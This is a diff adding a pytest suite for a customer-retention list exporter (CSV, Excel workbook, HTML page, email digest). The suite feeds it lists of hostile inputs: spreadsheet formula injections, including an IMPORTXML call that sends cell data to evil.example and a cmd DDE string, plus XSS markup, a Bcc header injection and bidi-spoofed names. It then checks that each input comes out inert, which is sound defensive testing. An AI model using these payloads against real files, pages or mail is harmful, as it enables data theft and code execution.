@@ -1,0 +1,656 @@
+"""What people open says what the list says, and never runs what a stranger wrote."""
+
+import base64
+import csv
+import email
+import email.policy
+import hashlib
+import io
+import json
+import random
+import re
+import zipfile
+from dataclasses import replace
+from datetime import date, timedelta
+from html.parser import HTMLParser
+from typing import Any
+
+import openpyxl
+import pandas as pd
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from churn.contracts import FEEDBACK_COLUMNS, LIST_COLUMNS
+from churn.errors import ConfigurationError
+from churn.io import wording
+from churn.io.export import (
+    CHOICES,
+    COLUMNS,
+    HEADER_ROW,
+    Detail,
+    Listing,
+    csv_bytes,
+    guard,
+    unguard,
+    workbook_bytes,
+)
+from churn.io.mail import digest_eml
+from churn.io.page import TEMPLATES, index_html, page_html
+
+AS_OF = date(2026, 1, 5)
+WEEKS = [(AS_OF - timedelta(weeks=26 - k)).isoformat() for k in range(26)]
+OWNERS = ["Anna Lindqvist", "Marcus Oyelaran", "Priya Raman", "Tomás Ferreira"]
+PLAYS = ["Call the main user", "Offer a training session", "Review the contract", None]
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example","click")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "   =1+1",
+    "'=1+1",
+    '"=1+1',
+    "\u200b=1+1",
+    "＝1+1",
+    "＠SUM(A1)",
+    "fine;=1+1",
+    "fine\n=1+1",
+    '=IMPORTXML("http://evil.example/?"&A1,"//a")',
+    "\ufeff=1+1",
+]
+MARKUP = [
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    '"onmouseover=alert(1) x="',
+    "'><img src=x onerror=alert(1)>",
+    "<!--<script>",
+    "{{ 7*7 }}{% raw %}",
+    "javascript:alert(1)",
+    "&lt;b&gt; & co",
+    "]]></json>\u2028alert(1)",
+]
+ODD = [
+    "Acme\u202egnp.exe",
+    "\u2067evil\u2069 Ltd",
+    "🦊🏳️\u200d🌈 Foxes & Sons",
+    "x" * 300,
+    "Wort " * 60,
+    "بقالة الحي",
+    "Ren\u0000é\u0007 _x0041_",
+    "Subject: x\r\nBcc: victim@example.com",
+    "\r\n.\r\n--=_churn_digest--",
+    "http://evil.example",
+    "1e5",
+    "007",
+]
+PAYLOADS = FORMULAS + MARKUP + ODD
+
+
+def sample(n_rows: int = 60, names: list[str] | None = None) -> Listing:
+    """A believable list of one week, or one whose customers are called `names`."""
+    chance = random.Random(5)
+    rows = [_sample_row(chance, k) for k in range(n_rows)]
+    rows.sort(key=lambda row: -row["priority"])
+    for k, row in enumerate(rows):
+        row["rank"] = k + 1
+        if names:
+            row["customer_name"] = names[k]
+    details = {row["customer_id"]: _sample_detail(chance, row) for row in rows}
+    return Listing(
+        title="Retention list, week of 5 January 2026",
+        as_of=AS_OF,
+        facts={
+            "Customers scored": "13,214",
+            "Churn means": "cancels within 28 days",
+            "Usual rate": "3.4 % in 28 days",
+            "Model": "a1b2c3d4e5f6",
+        },
+        notes=["Plan changes of 2 and 3 January have not arrived yet."],
+        rows=pd.DataFrame(rows, columns=list(LIST_COLUMNS)),
+        attributes=["segment", "plan"],
+        details=details,
+    )
+
+
+def _sample_row(chance: random.Random, k: int) -> dict[str, Any]:
+    first = [
+        "Northwind",
+        "Harbor",
+        "Kestrel",
+        "Lumen",
+        "Aster",
+        "Quarry",
+        "Tidal",
+        "Bright",
+        "Copper",
+        "Willow",
+    ]
+    second = [
+        "Logistics",
+        "Foods",
+        "Dental Group",
+        "Analytics",
+        "& Sons",
+        "Robotics",
+        "Travel",
+        "Software GmbH",
+    ]
+    risk = min(0.93, chance.betavariate(2, 4) + 0.04)
+    value = round(chance.lognormvariate(6.5, 0.9), 2)
+    risk_8w = 1 - (1 - risk) ** 2
+    active, usual = chance.randint(0, 4), chance.randint(6, 12)
+    status = chance.choice(["new", "new", "still", "still", "still", "back"])
+    last = AS_OF - timedelta(days=chance.randint(9, 200))
+    return {
+        "rank": 0,
+        "customer_id": f"{k * 7919 % 100000:06d}",
+        "customer_name": f"{chance.choice(first)} {chance.choice(second)}" if k % 13 else None,
+        "owner": OWNERS[k % 4],
+        "status": status,
+        "weeks_on_list": 1 if status != "still" else chance.randint(2, 6),
+        "act_before": AS_OF + timedelta(days=chance.choice([7, 14, 14, 21])),
+        "risk": risk,
+        "risk_8w": risk_8w,
+        "risk_change": chance.gauss(0.04, 0.06) if status == "still" else float("nan"),
+        "times_average": risk / 0.034,
+        "value_month": value,
+        "at_stake": risk_8w * value * 12,
+        "priority": risk_8w * value * 12 * 0.2,
+        "reason_1": f"Active on {active} of the last 14 days; usual for them is {usual}. "
+        "Drop began 3 Nov.",
+        "reason_2": f"{chance.randint(1, 4)} of 12 seats in use; it was {chance.randint(7, 11)} "
+        "in October."
+        if chance.random() < 0.8
+        else None,
+        "reason_3": "No report was exported since 18 Nov; usual for them is 5 a week."
+        if chance.random() < 0.4
+        else None,
+        "protects": "Their admin still signs in every week." if chance.random() < 0.7 else None,
+        "suggested_play": chance.choice(PLAYS),
+        "last_contact": last if chance.random() < 0.6 else None,
+        "confidence": chance.choice(["high", "medium", "low"]),
+        "as_of": AS_OF,
+        "currency": "EUR",
+        "model_version": "a1b2c3d4e5f6",
+        "list_id": "2026-01-05/r1",
+        **dict.fromkeys(FEEDBACK_COLUMNS),
+    }
+
+
+def _sample_detail(chance: random.Random, row: dict[str, Any]) -> Detail:
+    usual = chance.randint(3, 6)
+    activity = [max(0, min(7, usual + chance.randint(-1, 1))) for _ in range(22)]
+    activity += [max(0, usual - 2 - k) for k in range(4)]
+    reasons = [
+        {"family": "activity", "direction": "raises", "sentence": row["reason_1"]},
+        {"family": "seats", "direction": "raises", "sentence": row["reason_2"]},
+        {"family": "exports", "direction": "raises", "sentence": row["reason_3"]},
+        {"family": "admin", "direction": "lowers", "sentence": row["protects"]},
+    ]
+    said = [reason for reason in reasons if reason["sentence"]]
+    plan = chance.choice(["Starter", "Business", "Enterprise"])
+    return Detail(
+        weeks=WEEKS,
+        activity=activity,
+        events=[days * chance.randint(8, 40) for days in activity],
+        reasons=[one | {"contribution": 1.4 / (k + 1)} for k, one in enumerate(said)],
+        contract={"Plan": plan, "Seats": "12", "Renews": "3 Mar 2026", "Since": "14 Jun 2023"},
+        attributes={"segment": chance.choice(["smb", "mid", "large"]), "plan": plan},
+    )
+
+
+# --- reading back ----------------------------------------------------------------------------
+
+
+class Page(HTMLParser):
+    """The elements, texts, scripts and styles of a page, as a browser would see them."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.texts: list[str] = [""]
+        self.scripts: list[str] = []
+        self.styles: list[str] = []
+        self._place: list[str] = self.texts
+        self.feed(text)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+        self._place = {"script": self.scripts, "style": self.styles}.get(tag, self.texts)
+        self._place.append("")
+
+    def handle_endtag(self, tag: str) -> None:
+        self._place = self.texts
+
+    def handle_data(self, data: str) -> None:
+        self._place[-1] += data
+
+    def attributes(self, tag: str) -> list[dict[str, str | None]]:
+        return [attributes for name, attributes in self.tags if name == tag]
+
+
+def read_csv(content: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+
+
+def read_workbook(content: bytes) -> list[dict[str, Any]]:
+    """The rows of sheet `List` by contract column, as an importer finds them."""
+    sheet = openpyxl.load_workbook(io.BytesIO(content))["List"]
+    names = {column.heading: name for name, column in COLUMNS.items()}
+    header, *rows = sheet.iter_rows(min_row=HEADER_ROW, values_only=True)
+    return [
+        {names[str(head)]: cell for head, cell in zip(header, row, strict=True)} for row in rows
+    ]
+
+
+def everywhere(payload: str) -> Listing:
+    """A list in which a stranger's text stands in every place a stranger can reach."""
+    listing = sample(1)
+    texts = {name: payload for name, column in COLUMNS.items() if column.kind in ("text", "wrap")}
+    rows = listing.rows.assign(**texts)
+    family = {"family": payload, "direction": "raises", "sentence": payload, "contribution": 1.0}
+    detail = replace(
+        next(iter(listing.details.values())),
+        reasons=[family],
+        contract={payload: payload},
+        attributes={"segment": payload, payload: payload},
+    )
+    facts, details = {payload: payload}, {payload: detail}
+    return replace(
+        listing, title=payload, facts=facts, notes=[payload], rows=rows, details=details,
+        attributes=["segment", payload],
+    )  # fmt: skip
+
+
+# --- CSV -------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "guarded"),
+    [
+        ("=1+1", "'=1+1"),
+        ("-2", "'-2"),
+        ("\t=1", "'\t'=1"),
+        ("\rx", "'\rx"),
+        (" \" '=1", "' \" '=1"),
+        ("＝1", "'＝1"),
+        ("a;@b;c", "a;'@b;c"),
+        ("a\n+b", "a\n'+b"),
+    ],
+)
+def test_guard_puts_an_apostrophe_before_a_formula(text: str, guarded: str) -> None:
+    assert guard(text) == guarded
+    assert unguard(guarded) == text
+
+
+@pytest.mark.parametrize(
+    "text", ["Acme", "a-b", "3 + 4", "'tis", "", "x=1", "Ümit; Co", "5 - 3;ok"]
+)
+def test_guard_leaves_harmless_texts_alone(text: str) -> None:
+    assert guard(text) == text
+
+
+@given(
+    st.text(alphabet=st.sampled_from(list("=+-@＝'\"; \t\r\nab\u200b7")), max_size=12) | st.text()
+)
+def test_unguard_gives_every_text_back(text: str) -> None:
+    guarded = guard(text)
+    assert unguard(guarded) == text
+    parts = re.split("[;\t\r\n]", guarded)
+    assert not any(part.lstrip(' "\u200b').startswith(tuple("=+-@＝＠")) for part in parts)
+
+
+def test_csv_keeps_columns_numbers_and_dates() -> None:
+    listing = sample()
+    content = csv_bytes(listing.rows)
+    assert content.startswith(b"\xef\xbb\xbfrank,customer_id,")
+    assert content.count(b"\r\n") == 61
+    rows = read_csv(content)
+    assert tuple(rows[0]) == LIST_COLUMNS
+    assert [row["customer_id"] for row in rows] == list(listing.rows["customer_id"])
+    assert rows[0]["act_before"] == listing.rows["act_before"][0].isoformat()
+    assert float(rows[0]["risk"]) == pytest.approx(listing.rows["risk"][0], abs=5e-5)
+    assert rows[0]["contacted"] == ""
+
+
+def test_csv_never_guards_a_negative_number() -> None:
+    rows = sample(1).rows.assign(risk_change=-0.25, priority=-12.5)
+    assert read_csv(csv_bytes(rows))[0]["risk_change"] == "-0.2500"
+    assert read_csv(csv_bytes(rows))[0]["priority"] == "-12.50"
+
+
+def test_csv_writes_counts_without_a_point_and_missing_as_empty() -> None:
+    rows = sample(2).rows.assign(weeks_on_list=[2.0, float("nan")], last_contact=pd.NaT)
+    first, second = read_csv(csv_bytes(rows))
+    assert (first["weeks_on_list"], second["weeks_on_list"]) == ("2", "")
+    assert first["last_contact"] == ""
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_csv_payloads_are_safe_and_come_back(payload: str) -> None:
+    row = read_csv(csv_bytes(everywhere(payload).rows))[0]
+    assert row["customer_name"] == guard(payload)
+    assert unguard(row["customer_name"]) == payload
+    assert row["customer_name"].lstrip(' "\u200b\ufeff')[:1] not in tuple("=+-@＝＠\t\r")
+
+
+# --- workbook --------------------------------------------------------------------------------
+
+
+def test_workbook_holds_every_column_once() -> None:
+    listing = sample()
+    rows = read_workbook(workbook_bytes(listing))
+    assert len(rows) == 60
+    assert set(rows[0]) == set(LIST_COLUMNS)
+    assert [row["customer_id"] for row in rows] == list(listing.rows["customer_id"])
+    assert [row["risk"] for row in rows] == pytest.approx(list(listing.rows["risk"]))
+    assert rows[0]["act_before"].date() == listing.rows["act_before"][0]
+
+
+def test_workbook_shows_at_most_12_columns_with_feedback_beside_the_play() -> None:
+    sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes(sample())))["List"]
+    hidden = {letter for letter, column in sheet.column_dimensions.items() if column.hidden}
+    headings = [
+        cell.value for cell in sheet[HEADER_ROW] if not _is_hidden(sheet, cell.column, hidden)
+    ]
+    assert len(headings) <= 12
+    start = headings.index("Suggested play")
+    assert headings[start + 1 :] == ["Contacted", "Outcome", "Verdict", "Note"]
+
+
+def _is_hidden(sheet: Any, column: int, hidden: set[str]) -> bool:
+    spans = [sheet.column_dimensions[letter] for letter in hidden]
+    return any(span.min <= column <= span.max for span in spans)
+
+
+def test_workbook_hides_what_it_can_say_once() -> None:
+    listing = sample()
+    same = replace(listing, rows=listing.rows.assign(owner="all", act_before=date(2026, 1, 19)))
+    sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes(same)))["List"]
+    assert [cell.value for cell in sheet[HEADER_ROW]][:4] == ["#", "Customer", "Status", "Risk"]
+    assert "act before 19 Jan 2026" in sheet["A2"].value
+
+
+def test_workbook_is_ready_to_work_in() -> None:
+    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes(sample())))
+    sheet = book["List"]
+    assert sheet.freeze_panes == f"C{HEADER_ROW + 1}"
+    assert sheet.auto_filter.ref.startswith(f"A{HEADER_ROW}:")
+    lists = {rule.formula1.strip('"') for rule in sheet.data_validations.dataValidation}
+    assert lists == {",".join(options) for options in CHOICES.values()}
+    assert sheet.page_setup.orientation == "landscape"
+    assert sheet.page_setup.paperSize == 9
+    assert sheet.conditional_formatting
+    assert "retention_list" in book.defined_names
+    about = {row[0]: row[1] for row in book["About"].iter_rows(values_only=True, max_col=2)}
+    assert about["Customers scored"] == "13,214"
+    assert about["Verdict"]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_workbook_payloads_stay_text(payload: str) -> None:
+    content = workbook_bytes(everywhere(payload))
+    for part in (archive := zipfile.ZipFile(io.BytesIO(content))).namelist():
+        assert not re.search(b"<f>|<hyperlink|externalLink", archive.read(part))
+    book = openpyxl.load_workbook(io.BytesIO(content))
+    cells = [cell for row in book["List"].iter_rows(min_row=HEADER_ROW + 1) for cell in row]
+    texts = [cell for cell in cells if isinstance(cell.value, str)]
+    assert texts
+    assert all(cell.number_format == "@" for cell in texts)
+    assert not any(cell.data_type == "f" for cell in cells if cell.value != payload)
+
+
+# --- page ------------------------------------------------------------------------------------
+
+
+def test_page_lists_every_row_in_order_in_plain_html() -> None:
+    listing = sample()
+    page = Page(page_html(listing))
+    ranks = [attributes for attributes in page.attributes("tr") if "data-row" in attributes]
+    assert [row["data-row"] for row in ranks] == [str(k) for k in range(60)]
+    assert page.attributes("html") == [{"lang": "en"}]
+    text = " ".join(page.texts)
+    assert "60" in text and "customers to contact" in text
+    assert wording.percent(listing.rows["risk"][0]) in text
+    assert listing.rows["reason_1"][0] in text
+
+
+def test_page_loads_nothing_and_allows_only_its_own_script_and_style() -> None:
+    text = page_html(sample())
+    page = Page(text)
+    policy = next(
+        attributes["content"]
+        for attributes in page.attributes("meta")
+        if attributes.get("http-equiv") == "Content-Security-Policy"
+    )
+    assert policy is not None
+    assert policy.startswith("default-src 'none'")
+    for content in (page.scripts[-1], page.styles[0]):
+        digest = base64.b64encode(hashlib.sha256(content.encode()).digest()).decode()
+        assert f"'sha256-{digest}'" in policy
+    loading = {"src", "srcset", "style", "action", "poster", "background"}
+    assert not any(loading & set(attributes) for _, attributes in page.tags)
+    assert not any(name.startswith("on") for _, attributes in page.tags for name in attributes)
+    assert {tag["href"] for tag in page.attributes("a")} == {
+        "#list",
+        "retention_list.xlsx",
+        "retention_list.csv",
+    }
+    assert "innerHTML" not in text
+    assert "http://" not in text.replace("http://www.w3.org/2000/svg", "")
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_page_payloads_are_only_ever_text(payload: str) -> None:
+    usual, hostile = Page(page_html(everywhere("Acme"))), Page(page_html(everywhere(payload)))
+    assert [tag for tag, _ in hostile.tags] == [tag for tag, _ in usual.tags]
+    names = [sorted(attributes) for _, attributes in hostile.tags]
+    assert names == [sorted(attributes) for _, attributes in usual.tags]
+    assert hostile.scripts[-1] == usual.scripts[-1]
+    assert wording.visible(payload).strip() in "".join(hostile.texts)
+    data = json.loads(hostile.scripts[0])
+    assert data["rows"][0]["ids"][0][1] == wording.visible(payload)
+    assert not set("<>&\u2028\u2029") & set(hostile.scripts[0])
+
+
+def test_page_spells_out_characters_that_turn_the_direction() -> None:
+    text = page_html(sample(1, names=["Acme\u202egnp.exe"]))
+    assert "Acme[U+202E]gnp.exe" in text
+    assert not re.search("[\u202a-\u202e\u2066-\u2069]", text)
+
+
+def test_page_keeps_emoji_and_other_scripts_whole() -> None:
+    text = page_html(sample(2, names=["🏳️\u200d🌈 Foxes", "بقالة الحي"]))
+    assert "🏳️\u200d🌈 Foxes" in text
+    assert "<bdi>بقالة الحي</bdi>" in text
+
+
+def test_page_offers_only_filters_with_a_choice() -> None:
+    listing = sample()
+    one = replace(listing, rows=listing.rows.assign(owner="all"), attributes=["segment"])
+    keys = [tag.get("data-filter") for tag in Page(page_html(one)).attributes("select")]
+    assert [key for key in keys if key] == ["is:segment", "status", "family"]
+
+
+def test_page_of_an_empty_list_says_so() -> None:
+    listing = sample(0)
+    assert "Nobody is on the list this week" in page_html(listing)
+    assert not Page(page_html(listing)).attributes("table")
+    assert read_workbook(workbook_bytes(listing)) == []
+    assert b"Nobody is on the list" in digest_eml(
+        listing, sender="a@b.example", recipient="c@d.example"
+    )
+
+
+def test_page_shows_missing_values_as_a_dash() -> None:
+    empty = {name: None for name in LIST_COLUMNS if name not in ("rank", "customer_id")}
+    listing = replace(sample(1), details={}, rows=sample(1).rows.assign(**empty))
+    text = " ".join(Page(page_html(listing)).texts)
+    assert "–" in text
+    assert not re.search(r"\b(None|nan|NaN|NaT)\b", text)
+    assert workbook_bytes(listing)
+    assert digest_eml(listing, sender="a@b.example", recipient="c@d.example")
+
+
+def test_colours_meet_aa_in_light_and_dark() -> None:
+    style = (TEMPLATES / "page.css").read_text()
+    themes = re.findall(r":root \{(.*?)\}", style, re.DOTALL)
+    assert len(themes) == 2
+    for theme in themes:
+        colours = dict(re.findall(r"--([\w-]+): (#\w{6})", theme))
+        grounds = [colours[name] for name in ("ground", "paper", "raised", "hover")]
+        inks = [colours[name] for name in ("ink", "quiet", "accent", "danger", "good")]
+        assert min(contrast(ink, ground) for ink in inks for ground in grounds) >= 4.5
+        for pair in ("new", "still", "back", "warn"):
+            assert contrast(colours[f"{pair}-ink"], colours[f"{pair}-ground"]) >= 4.5
+        assert contrast(colours["accent-ink"], colours["accent"]) >= 4.5
+        assert contrast(colours["edge"], colours["paper"]) >= 3
+
+
+def contrast(one: str, other: str) -> float:
+    """The contrast ratio of WCAG 2.2."""
+    lights = sorted(luminance(colour) + 0.05 for colour in (one, other))
+    return lights[1] / lights[0]
+
+
+def luminance(colour: str) -> float:
+    parts = [int(colour[k : k + 2], 16) / 255 for k in (1, 3, 5)]
+    linear = [
+        part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts
+    ]
+    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]
+
+
+# --- index -----------------------------------------------------------------------------------
+
+
+def test_index_links_to_the_current_list_and_those_before() -> None:
+    text = index_html(
+        current="2026-01-05/r2",
+        as_of=AS_OF,
+        banner="STALE: this list is 15 days old <b>",
+        revisions=["2026-01-05/r2", "2026-01-05/r1", "2025-12-29/r1"],
+    )
+    page = Page(text)
+    links = [tag["href"] for tag in page.attributes("a")]
+    assert links[0] == "2026-01-05/r2/retention_list.html"
+    assert links[-2:] == ["2026-01-05/r1/retention_list.html", "2025-12-29/r1/retention_list.html"]
+    assert "STALE: this list is 15 days old <b>" in " ".join(page.texts)
+    assert "5 Jan 2026" in " ".join(page.texts)
+
+
+def test_index_before_the_first_list() -> None:
+    assert "No list has been published yet" in index_html(
+        current=None, as_of=None, banner=None, revisions=[]
+    )
+
+
+# --- digest ----------------------------------------------------------------------------------
+
+
+def parts(content: bytes) -> tuple[Any, str, str]:
+    mail = email.message_from_bytes(content, policy=email.policy.default)
+    plain, html = mail.iter_parts()
+    return mail, plain.get_content(), html.get_content()
+
+
+def test_digest_names_the_top_ten_with_reasons() -> None:
+    listing = sample()
+    mail, plain, html = parts(
+        digest_eml(listing, sender="churn@example.com", recipient="anna@example.com")
+    )
+    assert mail["Subject"] == "Retention list, week of 5 January 2026: top 10"
+    assert (mail["From"], mail["To"]) == ("churn@example.com", "anna@example.com")
+    assert mail["Message-ID"] is None
+    assert len(re.findall(r"^\d+\. ", plain, re.MULTILINE)) == 10
+    for reason in listing.rows["reason_1"][:10]:
+        assert reason in plain
+        assert reason in html
+    assert "50 more on the list." in plain
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_digest_payloads_add_no_header_part_or_element(payload: str) -> None:
+    addresses = {"sender": "churn@example.com", "recipient": "anna@example.com"}
+    usual, _, usual_html = parts(digest_eml(everywhere("Acme"), **addresses))
+    mail, plain, html = parts(digest_eml(everywhere(payload), **addresses))
+    assert mail.keys() == usual.keys()
+    assert [tag for tag, _ in Page(html).tags] == [tag for tag, _ in Page(usual_html).tags]
+    assert wording.visible(payload).strip() in plain
+    assert not mail.defects
+
+
+@pytest.mark.parametrize(
+    "address",
+    ["", "nobody", "a@b\r\nBcc: c@d", "a b@c", "a@b,c@d", "Anna <a@b.example>", "@", "a@b@c"],
+)
+def test_digest_refuses_what_is_not_an_address(address: str) -> None:
+    with pytest.raises(ConfigurationError, match="recipient"):
+        digest_eml(sample(1), sender="churn@example.com", recipient=address)
+
+
+# --- the same bytes --------------------------------------------------------------------------
+
+
+def test_the_same_listing_gives_the_same_bytes() -> None:
+    one, other = sample(), sample()
+    assert csv_bytes(one.rows) == csv_bytes(other.rows)
+    assert workbook_bytes(one) == workbook_bytes(other)
+    assert page_html(one) == page_html(other)
+    mails = [
+        digest_eml(listing, sender="a@b.example", recipient="c@d.example")
+        for listing in (one, other)
+    ]
+    assert mails[0] == mails[1]
+
+
+def test_rows_are_not_changed() -> None:
+    listing = sample()
+    before = listing.rows.copy(deep=True)
+    csv_bytes(listing.rows), workbook_bytes(listing), page_html(listing)
+    pd.testing.assert_frame_equal(listing.rows, before)
+
+
+# --- wording ---------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("share", "words"),
+    [
+        (0.342, "34 %"),
+        (0.034, "3.4 %"),
+        (0.0996, "10 %"),
+        (1.0, ">99 %"),
+        (0.0, "<0.1 %"),
+        (None, "–"),
+    ],
+)
+def test_percent(share: float | None, words: str) -> None:
+    assert wording.percent(share).replace(wording.NBSP, " ") == words
+
+
+@pytest.mark.parametrize(
+    ("amount", "currency", "words"),
+    [
+        (1234.4, "EUR", "€1,234"),
+        (9.99, "USD", "$9.99"),
+        (1e6, "CHF", "CHF 1,000,000"),
+        (-250, "GBP", "−£250"),
+        (12.5, None, "12.50"),
+        (float("nan"), "EUR", "–"),
+    ],
+)
+def test_money(amount: float, currency: str | None, words: str) -> None:
+    assert wording.money(amount, currency).replace(wording.NBSP, " ") == words
+
+
+@pytest.mark.parametrize(
+    "value", [date(2026, 1, 5), pd.Timestamp("2026-01-05 10:00"), "2026-01-05", "2026-01-05T10:00"]
+)
+def test_day(value: Any) -> None:
+    assert wording.day(value) == "5 Jan 2026"
